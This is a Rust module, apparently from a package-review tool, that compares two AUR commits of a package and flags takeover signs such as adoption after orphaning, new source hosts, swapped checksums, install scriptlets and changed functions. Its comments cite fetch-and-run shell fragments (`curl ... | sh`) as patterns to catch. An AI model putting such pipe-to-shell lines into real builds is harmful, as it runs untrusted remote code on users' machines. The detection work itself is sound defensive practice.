//! What a move of the lock lets in: the flags a reviewer must see.
//!
//! Pure: it compares a pkgbase's files at two AUR commits, and who maintained it then, and
//! says what changed beyond a version bump. The threat is the shape of the AUR takeovers of
//! June 2026: orphaned packages adopted, then updated to fetch from new hosts, to swap a
//! tarball behind an unchanged URL, or to add an install scriptlet. makepkg runs the PKGBUILD;
//! the .SRCINFO only describes it, so both are read: the .SRCINFO for what it names (sources,
//! install scriptlets, dependencies), the PKGBUILD function by function and line by line.
//!
//! Formats: PKGBUILD(5) (bash: functions, `source`, `*sums` arrays, `install`) and SRCINFO(5)
//! (`key = value` lines, a `pkgbase` section then one section per `pkgname`, `KEY_ARCH` keys).
mod versions;

use crate::trust::tree::{Mode, Tree, is_attribute_file};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

const PKGBUILD: &str = "PKGBUILD";
const SRCINFO: &str = ".SRCINFO";

/// The checksum arrays of PKGBUILD(5), each also as `KEY_ARCH`.
const SUMS: &[&str] =
    &["md5sums", "sha1sums", "sha224sums", "sha256sums", "sha384sums", "sha512sums", "b2sums", "cksums"];

/// A pkgbase's files at one AUR commit, and who maintained it then.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Snapshot {
    /// Path relative to the repository root (`PKGBUILD`, `.SRCINFO`, `fix.patch`) -> content
    /// (UTF-8, lossy for binary files; a symlink's target), for every entry of the commit.
    pub files: BTreeMap<String, String>,
    /// The mode of each entry that is not a plain file (`100755`, a symlink); absent: `100644`.
    pub modes: BTreeMap<String, Mode>,
    /// The aurweb RPC's `Maintainer`: None when the pkgbase is orphaned.
    pub maintainer: Option<String>,
    /// The aurweb RPC's `CoMaintainers`, in any order.
    pub comaintainers: Vec<String>,
}

impl Snapshot {
    /// A snapshot of a commit's files as git gives them (bytes; binary files read lossily),
    /// all plain files.
    pub fn from_files(
        files: &BTreeMap<String, Vec<u8>>,
        maintainer: Option<String>,
        comaintainers: Vec<String>,
    ) -> Self {
        let files = files.iter().map(|(p, b)| (p.clone(), String::from_utf8_lossy(b).into_owned())).collect();
        Snapshot { files, modes: BTreeMap::new(), maintainer, comaintainers }
    }

    /// A snapshot of every entry of a commit as its blobs hold it ([`crate::trust::tree`]):
    /// what `.gitattributes` would hide from `git archive` included, symlinks as their targets.
    pub fn from_tree(tree: &Tree, maintainer: Option<String>, comaintainers: Vec<String>) -> Self {
        let files =
            tree.entries().iter().map(|e| (e.path().to_string(), String::from_utf8_lossy(e.content()).into_owned()));
        let modes = tree.entries().iter().filter(|e| e.mode() != Mode::File).map(|e| (e.path().to_string(), e.mode()));
        Snapshot { files: files.collect(), modes: modes.collect(), maintainer, comaintainers }
    }

    fn mode(&self, path: &str) -> Mode {
        self.modes.get(path).copied().unwrap_or(Mode::File)
    }
}

/// One thing a reviewer must see; `Display` gives it as one line with its reason. Lists are
/// sorted. In JSON: `{"flag": "new-hosts", "hosts": [...]}`.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
#[serde(tag = "flag", rename_all = "kebab-case")]
pub enum Flag {
    /// The pkgbase is new to the lock: everything in it is to be read.
    New,
    /// The locked commit's files cannot be compared with the new ones (`why`): the AUR no
    /// longer holds it, or they are not what the lock records (an older repoctl's hash that did
    /// not cover `.gitattributes` or symlinks, a lock edited by hand). Every file is to be read.
    Unverified { why: String },
    /// Another maintainer (login names).
    MaintainerChanged { from: String, to: String },
    /// It has no maintainer any more.
    Orphaned { was: String },
    /// It was orphaned and now has a maintainer: the shape of the June 2026 takeovers.
    Adopted { by: String },
    /// Co-maintainers (who may push too) added or removed.
    ComaintainersChanged { added: Vec<String>, removed: Vec<String> },
    /// `source`/`source_ARCH` entries of the .SRCINFO, the new pkgver read as the old one (a
    /// version bump alone changes none); `_ARCH` entries end in ` (ARCH)`.
    SourcesChanged { added: Vec<String>, removed: Vec<String> },
    /// Hosts the new commit names that the old one did not: in the .SRCINFO's sources, or in
    /// any URL written in its files (a `curl https://… | sh` in build() too); literal URLs.
    NewHosts { hosts: Vec<String> },
    /// `*sums` changed while the literal source lists did not: the same URLs give other files.
    ChecksumsWithoutSources,
    /// A pkgver of the new commit that does not look like a version of it (the table in
    /// `lock/assess/versions.rs` and docs/src/trust/trust-model.md#trust-in-repoyaml): a commit id that a URL template
    /// can name (GitHub serves a fork's commits through the parent's URL), a branch name, a
    /// word. `why` says which.
    NotAVersion { pkgver: String, why: String },
    /// The PKGBUILD's plain `KEY=` line (`pkgver`, `pkgrel`, `epoch`) says `pkgbuild`, the
    /// .SRCINFO `srcinfo` (None: nothing): the version shown is not what makepkg builds.
    VersionOutOfStep { key: String, pkgbuild: String, srcinfo: Option<String> },
    /// Checksums that became `SKIP` (their source is no longer verified) or stopped being it:
    /// `KEY[INDEX]` of the .SRCINFO, `PKGBUILD KEY[INDEX]` of the PKGBUILD's arrays.
    SkipChanged { to_skip: Vec<String>, from_skip: Vec<String> },
    /// The epoch was added, removed or changed (None: no epoch). An epoch outranks every
    /// pkgver: a raised one sorts above any later release.
    EpochChanged { from: Option<String>, to: Option<String> },
    /// The new `[epoch:]pkgver-pkgrel` is not strictly newer than the locked one (pacman's
    /// vercmp, alpm-package-version(7)).
    NotNewer { from: String, to: String },
    /// An `install=` scriptlet (run as root by pacman) added, removed, or its file changed.
    InstallScript { detail: String },
    /// Bash functions of the PKGBUILD (`pkgver`, `prepare`, `build`, `check`, `package`,
    /// `package_*`, helpers) added, removed, or with another body.
    FunctionsChanged { names: Vec<String> },
    /// Files other than PKGBUILD and .SRCINFO (patches, scriptlets, configs).
    FilesChanged { added: Vec<String>, removed: Vec<String>, changed: Vec<String> },
    /// `.gitattributes` (in any directory) or `.lfsconfig` added, removed or changed: they
    /// decide what git tools export, diff and check out (repoctl reads blobs and applies none).
    AttributeFiles { paths: Vec<String> },
    /// Symbolic links added or retargeted, as `PATH -> "TARGET"`: makepkg follows them in the
    /// container (repoctl never does on the host).
    Symlinks { links: Vec<String> },
    /// Entries whose mode changed, as `PATH 100644 -> 100755`.
    ModesChanged { paths: Vec<String> },
    /// The PKGBUILD outside its functions changed beyond plain `pkgver=`, `pkgrel=`, `epoch=`
    /// and checksum arrays (the pkgver read as the old one).
    PkgbuildChanged,
    /// .SRCINFO keys (`KEY (PKGNAME)` in a pkgname section) that changed, beyond those the
    /// flags above cover (version, checksums, sources, install), e.g. `depends`, `validpgpkeys`.
    SrcinfoChanged { keys: Vec<String> },
    /// One of PKGBUILD and .SRCINFO changed and the other did not (`changed` names which): the
    /// version, sources and dependencies read from the .SRCINFO may not be what makepkg builds.
    SrcinfoOutOfStep { changed: String },
}

impl fmt::Display for Flag {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Flag::New => write!(f, "new to the lock: read the PKGBUILD and every file"),
            Flag::Unverified { why } => {
                write!(
                    f,
                    "the locked commit cannot be compared with this one ({why}): read the PKGBUILD and every file"
                )
            }
            Flag::MaintainerChanged { from, to } => write!(f, "maintainer changed from {from} to {to}"),
            Flag::Orphaned { was } => write!(f, "orphaned: {was} no longer maintains it"),
            Flag::Adopted { by } => write!(f, "adopted by {by} after being orphaned, as in the June 2026 takeovers"),
            Flag::ComaintainersChanged { added, removed } => {
                write!(f, "co-maintainers changed: {}", changes(&[("added", added), ("removed", removed)]))
            }
            Flag::SourcesChanged { added, removed } => {
                write!(f, "sources changed: {}", changes(&[("added", added), ("removed", removed)]))
            }
            Flag::NewHosts { hosts } => {
                let hosts: Vec<String> = hosts.iter().map(|h| escape_non_ascii(h)).collect();
                write!(f, "sources from hosts not used before: {}", hosts.join(", "))
            }
            Flag::ChecksumsWithoutSources => {
                write!(f, "checksums changed while the sources did not: the same URLs now give other files")
            }
            Flag::NotAVersion { .. }
            | Flag::VersionOutOfStep { .. }
            | Flag::SkipChanged { .. }
            | Flag::EpochChanged { .. }
            | Flag::NotNewer { .. } => self.fmt_version(f),
            Flag::InstallScript { detail } => write!(f, "install scriptlet (run as root by pacman): {detail}"),
            Flag::FunctionsChanged { names } => {
                let names: Vec<String> = names.iter().map(|n| format!("{n}()")).collect();
                write!(f, "PKGBUILD functions changed: {}", names.join(", "))
            }
            Flag::FilesChanged { added, removed, changed } => {
                let lists = [("added", added), ("removed", removed), ("changed", changed)];
                write!(f, "files changed: {}", changes(&lists))
            }
            Flag::AttributeFiles { paths } => write!(
                f,
                "git attribute files changed: {} (they can hide files from git archive and diffs; repoctl shows every file, read why they are there)",
                paths.join(", ")
            ),
            Flag::Symlinks { links } => {
                write!(f, "symbolic links added or changed: {} (makepkg follows them)", links.join(", "))
            }
            Flag::ModesChanged { paths } => write!(f, "file modes changed: {}", paths.join(", ")),
            Flag::PkgbuildChanged => {
                write!(f, "the PKGBUILD changed outside its functions, beyond pkgver, pkgrel, epoch and checksums")
            }
            Flag::SrcinfoChanged { keys } => write!(f, ".SRCINFO changed: {}", keys.join(", ")),
            Flag::SrcinfoOutOfStep { changed } => write!(
                f,
                "only the {changed} changed, not both: the version and sources shown come from the .SRCINFO and may not be what makepkg builds; read the PKGBUILD's diff"
            ),
        }
    }
}

impl Flag {
    /// The flags of a version change that is more than a version bump (issue 25 item 2).
    fn fmt_version(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Flag::NotAVersion { pkgver, why } if pkgver.is_empty() => write!(f, "no version: {why}"),
            Flag::NotAVersion { pkgver, why } => write!(f, "pkgver {pkgver} does not look like a version: {why}"),
            Flag::VersionOutOfStep { key, pkgbuild, srcinfo } => write!(
                f,
                "the PKGBUILD says {key}={pkgbuild} where the .SRCINFO says {}: the version shown is not what makepkg builds",
                srcinfo.as_deref().map_or_else(|| "nothing".to_string(), |s| format!("{key}={s}"))
            ),
            Flag::SkipChanged { to_skip, from_skip } => write!(
                f,
                "checksums changed to or from SKIP (a SKIP source is not verified): {}",
                changes(&[("now SKIP", to_skip), ("no longer SKIP", from_skip)])
            ),
            Flag::EpochChanged { from, to } => {
                let shown = |e: &Option<String>| e.clone().unwrap_or_else(|| "none".to_string());
                write!(f, "epoch changed from {} to {}: an epoch outranks every version", shown(from), shown(to))
            }
            Flag::NotNewer { from, to } => write!(f, "version {to} is not newer than the locked {from}"),
            _ => unreachable!("fmt_version is called only for the version flags"),
        }
    }
}

/// `added a, b; removed c`, leaving out empty lists.
fn changes(lists: &[(&str, &Vec<String>)]) -> String {
    let parts: Vec<String> =
        lists.iter().filter(|(_, l)| !l.is_empty()).map(|(what, l)| format!("{what} {}", l.join(", "))).collect();
    parts.join("; ")
}

/// A host as the reviewer can tell it apart: `gіthub.com` (Cyrillic і) reads `g\u{456}thub.com`.
fn escape_non_ascii(host: &str) -> String {
    host.chars().map(|c| if c.is_ascii() { c.to_string() } else { c.escape_unicode().to_string() }).collect()
}

/// A .SRCINFO read as SRCINFO(5) lines: (section, key) -> values in file order. The section is
/// "" for pkgbase's and the pkgname for the others; the `pkgbase =`/`pkgname =` lines are
/// entries of their own section.
type Fields = BTreeMap<(String, String), Vec<String>>;

fn parse_srcinfo(text: &str) -> Fields {
    let mut fields = Fields::new();
    let mut section = String::new();
    for line in text.lines().map(str::trim) {
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let (key, value) = line.split_once('=').map_or((line, ""), |(k, v)| (k.trim(), v.trim()));
        if key == "pkgname" {
            section = value.to_string();
        }
        fields.entry((section.clone(), key.to_string())).or_default().push(value.to_string());
    }
    fields
}

/// `source` for `source_x86_64`: SRCINFO(5) keys have no `_` but the one before the ARCH.
fn base_key(key: &str) -> &str {
    key.split_once('_').map_or(key, |(base, _)| base)
}

fn is_checksum(key: &str) -> bool {
    SUMS.contains(&base_key(key))
}

fn is_source(key: &str) -> bool {
    base_key(key) == "source"
}

fn is_version(key: &str) -> bool {
    matches!(key, "pkgver" | "pkgrel" | "epoch")
}

/// The pkgbase section's lists whose key passes `keep`, in key order.
fn pkgbase_lists(fields: &Fields, keep: fn(&str) -> bool) -> Vec<(&str, &Vec<String>)> {
    fields
        .iter()
        .filter(|((section, key), _)| section.is_empty() && keep(key))
        .map(|((_, k), v)| (k.as_str(), v))
        .collect()
}

/// The host a source entry is fetched from, lowercased; None for a local file (no `://`).
/// PKGBUILD(5) `source`: `[name::]URL`, split at the first `::` as makepkg does; VCS URLs are
/// `git+https://host/path#tag=...`. By hand rather than with the `url` crate: only host strings
/// of two commits are compared, and `url` takes `git+https` for a non-special scheme whose host
/// it neither lowercases nor maps, so `https` and `git+https` hosts would not compare alike.
fn host(entry: &str) -> Option<String> {
    let url = entry.split_once("::").map_or(entry, |(_, url)| url);
    let (_, rest) = url.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host_port = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    let host = match host_port.strip_prefix('[') {
        Some(ipv6) => ipv6.split(']').next().unwrap_or_default(),
        None => host_port.split(':').next().unwrap_or_default(),
    };
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

/// A PKGBUILD split into its functions (name -> header and body lines, trailing whitespace
/// dropped) and the lines outside them. Whitespace-only lines are left out of both: a blank
/// line added or removed changes no command, and flagging it would hold a version-only update
/// (`trust.auto`) for nothing (issue 29). Inside a multi-line string it changes the string,
/// which no command runs as code by itself.
#[derive(Debug, Default, PartialEq)]
struct Pkgbuild {
    functions: BTreeMap<String, String>,
    outside: Vec<String>,
}

fn split_functions(text: &str) -> Pkgbuild {
    let lines: Vec<&str> = text.lines().map(str::trim_end).filter(|l| !l.is_empty()).collect();
    let mut pkgbuild = Pkgbuild::default();
    let mut i = 0;
    while i < lines.len() {
        let Some(name) = function_name(lines[i]) else {
            pkgbuild.outside.push(lines[i].to_string());
            i += 1;
            continue;
        };
        let end = function_end(&lines, i);
        // bash keeps the last definition; both are kept so that either changing shows.
        let body = pkgbuild.functions.entry(name).or_default();
        body.push_str(&lines[i..=end].join("\n"));
        body.push('\n');
        i = end + 1;
    }
    pkgbuild
}

/// The name a line starts a function with: `^\s*(function\s+)?NAME\s*\(\s*\)`.
fn function_name(line: &str) -> Option<String> {
    let line = line.trim_start();
    let line = line.strip_prefix("function").filter(|r| r.starts_with([' ', '\t'])).map_or(line, str::trim_start);
    let end = line.find(|c: char| !(c.is_ascii_alphanumeric() || "_-.+".contains(c))).unwrap_or(line.len());
    let (name, after) = line.split_at(end);
    after.trim_start().strip_prefix('(')?.trim_start().strip_prefix(')')?;
    (!name.is_empty() && !name.starts_with(|c: char| c.is_ascii_digit())).then(|| name.to_string())
}

/// The last line of the function whose header is `lines[start]`: where the brace depth, once a
/// `{` is seen, is back to 0. A line-based count: braces inside quotes on one line and after
/// a comment's `#` are skipped, quotes spanning lines are not followed. A miscount only moves
/// lines between a function and the lines outside, and both are compared.
fn function_end(lines: &[&str], start: usize) -> usize {
    let mut depth = 0;
    let mut opened = false;
    for (i, line) in lines.iter().enumerate().skip(start) {
        let (opens, closes) = braces(line);
        depth += opens - closes;
        opened |= opens > 0;
        if opened && depth <= 0 {
            return i;
        }
    }
    lines.len() - 1
}

/// The `{` and `}` of a bash line outside quotes and comments.
fn braces(line: &str) -> (i64, i64) {
    let (mut opens, mut closes, mut quote, mut escaped, mut previous) = (0, 0, None, false, ' ');
    for c in line.chars() {
        match (quote, c) {
            _ if escaped => escaped = false,
            (Some('\''), '\'') | (Some('"'), '"') => quote = None,
            (Some('"'), '\\') | (None, '\\') => escaped = true,
            (Some(_), _) => {}
            (None, '\'' | '"') => quote = Some(c),
            (None, '#') if previous.is_whitespace() => break,
            (None, '{') => opens += 1,
            (None, '}') => closes += 1,
            _ => {}
        }
        previous = c;
    }
    (opens, closes)
}

/// Everything a reviewer must see about moving the lock from `old` (None: the pkgbase is new to
/// the lock, and that is all there is to say) to `new`, in the order of [`Flag`]'s variants.
/// Empty when the move is a version bump and nothing else (see [`version_only`]).
pub fn assess(old: Option<&Snapshot>, new: &Snapshot) -> Vec<Flag> {
    let Some(old) = old else { return vec![Flag::New] };
    let (before, after) = (Parsed::of(old), Parsed::of(new));
    let bump = Unbump::between(pkgver(&before.srcinfo), pkgver(&after.srcinfo));
    let mut flags = maintainer_flags(old, new);
    flags.extend(with_written_hosts(source_flags(&before.srcinfo, &after.srcinfo, bump), old, new, &before.srcinfo));
    flags.extend(versions::version_flags(old, new, &before, &after));
    flags.extend(install_flags(old, new, &before.srcinfo, &after.srcinfo));
    flags.extend(changed_functions(&before.pkgbuild, &after.pkgbuild));
    flags.extend(file_changes(old, new));
    flags.extend(entry_flags(old, new));
    flags.extend(pkgbuild_change(&before.pkgbuild, &after.pkgbuild));
    flags.extend(srcinfo_changes(&before.srcinfo, &after.srcinfo, bump));
    flags.extend(out_of_step(old, new));
    flags
}

/// The flags of a move from a locked commit whose files cannot be compared (`why`): that, and
/// who maintains it now against who did then (`old`'s maintainers; its files are not read).
/// Never version-only.
pub fn assess_unverified(old: &Snapshot, new: &Snapshot, why: String) -> Vec<Flag> {
    let mut flags = vec![Flag::Unverified { why }];
    flags.extend(maintainer_flags(old, new));
    flags
}

/// The source flags, with the hosts written in the new commit's files that the old commit
/// named nowhere (its files, its sources) joined into [`Flag::NewHosts`].
fn with_written_hosts(mut flags: Vec<Flag>, old: &Snapshot, new: &Snapshot, old_srcinfo: &Fields) -> Vec<Flag> {
    let mut known = hosts_in_files(old);
    known.extend(pkgbase_lists(old_srcinfo, is_source).into_iter().flat_map(|(_, v)| v.iter().filter_map(|e| host(e))));
    let written: Vec<String> = hosts_in_files(new).difference(&known).cloned().collect();
    if written.is_empty() {
        return flags;
    }
    match flags.iter_mut().find_map(|f| match f {
        Flag::NewHosts { hosts } => Some(hosts),
        _ => None,
    }) {
        Some(hosts) => {
            hosts.extend(written);
            hosts.sort();
            hosts.dedup();
        }
        None => {
            let at = flags.iter().position(|f| !matches!(f, Flag::SourcesChanged { .. })).unwrap_or(flags.len());
            flags.insert(at, Flag::NewHosts { hosts: written });
        }
    }
    flags
}

/// [`Flag::SrcinfoOutOfStep`] when exactly one of PKGBUILD and .SRCINFO changed.
fn out_of_step(old: &Snapshot, new: &Snapshot) -> Option<Flag> {
    if ![PKGBUILD, SRCINFO].iter().all(|p| new.files.contains_key(*p)) {
        return None;
    }
    let changed = |path: &str| old.files.get(path) != new.files.get(path);
    match (changed(PKGBUILD), changed(SRCINFO)) {
        (true, false) => Some(Flag::SrcinfoOutOfStep { changed: PKGBUILD.to_string() }),
        (false, true) => Some(Flag::SrcinfoOutOfStep { changed: SRCINFO.to_string() }),
        _ => None,
    }
}

/// Hosts of the URLs written in a snapshot's files other than .SRCINFO (whose sources
/// [`source_flags`] reads): `scheme://host` anywhere, a host made of a shell variable left out.
fn hosts_in_files(snapshot: &Snapshot) -> BTreeSet<String> {
    let mut hosts = BTreeSet::new();
    for text in snapshot.files.iter().filter(|(p, _)| p.as_str() != SRCINFO).map(|(_, t)| t) {
        for (at, _) in text.match_indices("://") {
            let scheme_start = text[..at]
                .rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-')))
                .map_or(0, |i| i + 1);
            let end = text[at..]
                .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | '`'))
                .map_or(text.len(), |i| at + i);
            let url = &text[scheme_start..end];
            if scheme_start < at && !url.contains('$') {
                hosts.extend(host(url));
            }
        }
    }
    hosts
}

/// Whether moving from `old` to `new` is "version-only" (repo.yaml `trust.auto: version-only`):
/// it changes only pkgver, pkgrel, epoch and checksums. So: the same files apart from PKGBUILD
/// and .SRCINFO (every entry of the commit, read from its blobs: a `.gitattributes` cannot hide
/// one), the same modes and symlinks, no `.gitattributes` or `.lfsconfig` changed; the same maintainer and co-maintainers, sources (the new pkgver read as the
/// old), hosts, install scriptlets and function bodies; the PKGBUILD outside its functions and
/// the .SRCINFO the same but for plain version lines and checksums. It is exactly "[`assess`]
/// finds nothing", so every refusal has a flag that says why. Conservative on purpose:
/// checksums that change under unchanged source URLs are refused too, even with a new pkgver
/// (`latest.tar.gz`), since that is also what a swapped upstream tarball looks like.
pub fn version_only(old: &Snapshot, new: &Snapshot) -> bool {
    assess(Some(old), new).is_empty()
}

/// A snapshot's PKGBUILD and .SRCINFO, read (an absent file reads as empty).
struct Parsed {
    srcinfo: Fields,
    pkgbuild: Pkgbuild,
}

impl Parsed {
    fn of(snapshot: &Snapshot) -> Parsed {
        let text = |path| snapshot.files.get(path).map_or("", String::as_str);
        Parsed { srcinfo: parse_srcinfo(text(SRCINFO)), pkgbuild: split_functions(text(PKGBUILD)) }
    }
}

/// A version bump to undo in the new commit's text: its pkgver read as the old one. Only
/// between two non-empty, different pkgvers.
#[derive(Clone, Copy)]
struct Unbump<'a> {
    old: &'a str,
    new: &'a str,
}

impl<'a> Unbump<'a> {
    fn between(old: Option<&'a str>, new: Option<&'a str>) -> Option<Unbump<'a>> {
        let (old, new) = (old?, new?);
        (!old.is_empty() && !new.is_empty() && old != new).then_some(Unbump { old, new })
    }
}

/// `text` with the new pkgver replaced by the old where it is not part of a longer number: a
/// bump to `6` leaves `x86_64` alone. Fewer replacements only make more differences show.
fn unbump(text: &str, bump: Option<Unbump>) -> String {
    let Some(bump) = bump else { return text.to_string() };
    let digit = |c: Option<char>| c.is_some_and(|c| c.is_ascii_digit());
    let (mut unbumped, mut copied) = (String::new(), 0);
    for (at, _) in text.match_indices(bump.new) {
        let end = at + bump.new.len();
        if !digit(text[..at].chars().next_back()) && !digit(text[end..].chars().next()) {
            unbumped.push_str(&text[copied..at]);
            unbumped.push_str(bump.old);
            copied = end;
        }
    }
    unbumped.push_str(&text[copied..]);
    unbumped
}

fn pkgver(fields: &Fields) -> Option<&str> {
    fields.get(&(String::new(), "pkgver".to_string()))?.first().map(String::as_str)
}

/// What `before` lacks and `after` has, and the other way round; None when they are equal.
fn diff(before: &BTreeSet<String>, after: &BTreeSet<String>) -> Option<(Vec<String>, Vec<String>)> {
    let added: Vec<String> = after.difference(before).cloned().collect();
    let removed: Vec<String> = before.difference(after).cloned().collect();
    (!added.is_empty() || !removed.is_empty()).then_some((added, removed))
}

fn maintainer_flags(old: &Snapshot, new: &Snapshot) -> Vec<Flag> {
    let mut flags = Vec::new();
    match (&old.maintainer, &new.maintainer) {
        (Some(from), Some(to)) if from != to => {
            flags.push(Flag::MaintainerChanged { from: from.clone(), to: to.clone() })
        }
        (Some(was), None) => flags.push(Flag::Orphaned { was: was.clone() }),
        (None, Some(by)) => flags.push(Flag::Adopted { by: by.clone() }),
        _ => {}
    }
    let set = |s: &Snapshot| s.comaintainers.iter().cloned().collect::<BTreeSet<_>>();
    if let Some((added, removed)) = diff(&set(old), &set(new)) {
        flags.push(Flag::ComaintainersChanged { added, removed });
    }
    flags
}

/// SourcesChanged compares the sources with the new pkgver read as the old (and shows them as
/// written); NewHosts and ChecksumsWithoutSources compare the literal ones.
fn source_flags(old: &Fields, new: &Fields, bump: Option<Unbump>) -> Vec<Flag> {
    let mut flags = Vec::new();
    let (before, after) = (sources(old, None), sources(new, bump));
    let missing = |from: &BTreeMap<String, String>, to: &BTreeMap<String, String>| -> Vec<String> {
        let entries: BTreeSet<&String> = from.iter().filter(|(k, _)| !to.contains_key(*k)).map(|(_, e)| e).collect();
        entries.into_iter().cloned().collect()
    };
    let (added, removed) = (missing(&after, &before), missing(&before, &after));
    if !added.is_empty() || !removed.is_empty() {
        flags.push(Flag::SourcesChanged { added, removed });
    }
    let hosts = |fields| -> BTreeSet<String> {
        pkgbase_lists(fields, is_source)
            .into_iter()
            .flat_map(|(_, values)| values.iter().filter_map(|v| host(v)))
            .collect()
    };
    let hosts: Vec<String> = hosts(new).difference(&hosts(old)).cloned().collect();
    flags.extend((!hosts.is_empty()).then_some(Flag::NewHosts { hosts }));
    let same_sources = pkgbase_lists(old, is_source) == pkgbase_lists(new, is_source);
    if same_sources && pkgbase_lists(old, is_checksum) != pkgbase_lists(new, is_checksum) {
        flags.push(Flag::ChecksumsWithoutSources);
    }
    flags
}

/// The pkgbase's source entries, ` (ARCH)` after those of `source_ARCH`: unbumped -> as written.
fn sources(fields: &Fields, bump: Option<Unbump>) -> BTreeMap<String, String> {
    let entries = pkgbase_lists(fields, is_source).into_iter().flat_map(|(key, values)| {
        let arch = key.split_once('_').map_or(String::new(), |(_, arch)| format!(" ({arch})"));
        values.iter().map(move |v| (format!("{}{arch}", unbump(v, bump)), format!("{v}{arch}")))
    });
    entries.collect()
}

/// One flag for each `install=` (pkgbase's or a pkgname's) added or removed, and each whose
/// file changed.
fn install_flags(old: &Snapshot, new: &Snapshot, before: &Fields, after: &Fields) -> Vec<Flag> {
    let installs = |fields: &Fields| -> BTreeSet<(String, String)> {
        let entries = fields.iter().filter(|((_, key), _)| key == "install");
        entries.flat_map(|((section, _), names)| names.iter().map(|n| (section.clone(), n.clone()))).collect()
    };
    let (was, is) = (installs(before), installs(after));
    let details: BTreeSet<String> = was
        .union(&is)
        .filter_map(|entry @ (section, name)| {
            let of = if section.is_empty() { String::new() } else { format!(" for {section}") };
            match (was.contains(entry), is.contains(entry)) {
                (false, _) => Some(format!("install={name} added{of}")),
                (_, false) => Some(format!("install={name} removed{of}")),
                _ => (old.files.get(name) != new.files.get(name)).then(|| format!("{name} changed")),
            }
        })
        .collect();
    details.into_iter().map(|detail| Flag::InstallScript { detail }).collect()
}

fn changed_functions(old: &Pkgbuild, new: &Pkgbuild) -> Option<Flag> {
    let names: BTreeSet<&String> = old.functions.keys().chain(new.functions.keys()).collect();
    let names: Vec<String> =
        names.into_iter().filter(|n| old.functions.get(*n) != new.functions.get(*n)).cloned().collect();
    (!names.is_empty()).then_some(Flag::FunctionsChanged { names })
}

fn file_changes(old: &Snapshot, new: &Snapshot) -> Option<Flag> {
    let others = |s: &Snapshot| -> BTreeSet<String> {
        s.files.keys().filter(|path| *path != PKGBUILD && *path != SRCINFO).cloned().collect()
    };
    let (before, after) = (others(old), others(new));
    let changed: Vec<String> =
        before.intersection(&after).filter(|p| old.files[*p] != new.files[*p]).cloned().collect();
    let (added, removed) = diff(&before, &after).unwrap_or_default();
    let unchanged = added.is_empty() && removed.is_empty() && changed.is_empty();
    (!unchanged).then_some(Flag::FilesChanged { added, removed, changed })
}

/// [`Flag::AttributeFiles`], [`Flag::Symlinks`] and [`Flag::ModesChanged`]: what the AUR
/// commit holds besides file contents, or holds to change how git tools show them.
fn entry_flags(old: &Snapshot, new: &Snapshot) -> Vec<Flag> {
    let paths: BTreeSet<&String> = old.files.keys().chain(new.files.keys()).collect();
    let differs = |p: &&&String| old.files.get(**p) != new.files.get(**p) || old.mode(p) != new.mode(p);
    let attributes: Vec<String> =
        paths.iter().filter(|p| is_attribute_file(p)).filter(differs).map(|p| p.to_string()).collect();
    let links: Vec<String> = paths
        .iter()
        .filter(|p| new.mode(p) == Mode::Symlink)
        .filter(differs)
        .map(|p| format!("{p} -> {:?}", new.files[*p]))
        .collect();
    let modes: Vec<String> = paths
        .iter()
        .filter(|p| old.files.contains_key(**p) && new.files.contains_key(**p))
        .filter(|p| old.mode(p) != new.mode(p) && new.mode(p) != Mode::Symlink)
        .map(|p| format!("{p} {} -> {}", old.mode(p).git(), new.mode(p).git()))
        .collect();
    let mut flags = Vec::new();
    flags.extend((!attributes.is_empty()).then_some(Flag::AttributeFiles { paths: attributes }));
    flags.extend((!links.is_empty()).then_some(Flag::Symlinks { links }));
    flags.extend((!modes.is_empty()).then_some(Flag::ModesChanged { paths: modes }));
    flags
}

/// Compares the lines outside functions, without plain version lines and checksum arrays, the
/// new pkgver (the PKGBUILD's own `pkgver=`) read as the old.
fn pkgbuild_change(old: &Pkgbuild, new: &Pkgbuild) -> Option<Flag> {
    let pkgver = |p: &Pkgbuild| -> Option<String> {
        p.outside.iter().find_map(|l| version_line(l).filter(|(k, _)| *k == "pkgver").map(|(_, v)| v.to_string()))
    };
    let (old_ver, new_ver) = (pkgver(old), pkgver(new));
    let bump = Unbump::between(old_ver.as_deref(), new_ver.as_deref());
    (rest(&old.outside, None) != rest(&new.outside, bump)).then_some(Flag::PkgbuildChanged)
}

fn rest(outside: &[String], bump: Option<Unbump>) -> Vec<String> {
    let mut kept = Vec::new();
    let mut i = 0;
    while i < outside.len() {
        if version_line(&outside[i]).is_some() {
            i += 1;
        } else if let Some(lines) = checksum_array(outside, i) {
            i += lines;
        } else {
            kept.push(unbump(&outside[i], bump));
            i += 1;
        }
    }
    kept
}

/// (key, value) of a plain `pkgver=`, `pkgrel=` or `epoch=` line: a value of letters, digits
/// and `._+~`, quoted or not, and nothing else on the line (`pkgver=1; curl ... | sh` is kept).
fn version_line(line: &str) -> Option<(&str, &str)> {
    let (key, value) = line.trim().split_once('=')?;
    let unquoted = ['\'', '"'].iter().find_map(|q| value.strip_prefix(*q)?.strip_suffix(*q));
    let value = unquoted.unwrap_or(value);
    let plain = value.chars().all(|c| c.is_ascii_alphanumeric() || "._+~".contains(c));
    (is_version(key) && plain).then_some((key, value))
}

/// How many lines the checksum array starting at `lines[start]` spans (`sha256sums=(` or
/// `b2sums_x86_64=(` up to its `)`), if it holds only digests or `SKIP`, quoted or not, and
/// nothing follows the `)`. Anything else is kept, to be compared.
fn checksum_array(lines: &[String], start: usize) -> Option<usize> {
    let (key, first) = lines[start].trim().split_once("=(")?;
    if !is_checksum(key) {
        return None;
    }
    let mut text = first.to_string();
    let mut count = 1;
    while !text.contains(')') {
        text = text + " " + lines.get(start + count)?;
        count += 1;
    }
    let (items, after) = text.split_once(')')?;
    let digest = |item: &str| {
        let unquoted = ['\'', '"'].iter().find_map(|q| item.strip_prefix(*q)?.strip_suffix(*q)).unwrap_or(item);
        !unquoted.is_empty() && unquoted.chars().all(|c| c.is_ascii_alphanumeric())
    };
    (after.trim().is_empty() && items.split_whitespace().all(digest)).then_some(count)
}

